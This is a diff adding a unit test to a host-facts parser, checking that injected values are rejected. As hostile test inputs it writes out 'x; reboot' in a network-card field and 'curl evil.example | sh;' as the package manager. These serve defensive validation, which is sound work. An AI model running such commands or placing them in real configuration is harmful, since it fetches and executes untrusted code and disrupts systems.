@@ -51,6 +51,13 @@ describe("what a host says of itself", () => {
     expect(parseHostFacts("now\t1\nend").directory).toBeNull();
   });
 
+  it("makes no word of a command of what is none", () => {
+    const odd = `${host}\ncard\teth9\tx; reboot\ncard\teth8\t52:54:00:00:00:01:02\nend`;
+    const lies = odd.replace("manager\tapt-get", "manager\tcurl evil.example | sh;");
+    const { manager, cards } = parseHostFacts(lies);
+    expect([manager, cards.map(({ name }) => name)]).toEqual([null, ["eth0", "eth1"]]);
+  });
+
   it.each(["", host, "now\tx\nend", "end"])("is refused where it is not whole", (text) => {
     expect(() => parseHostFacts(text)).toThrow("expected what a host is like");
   });
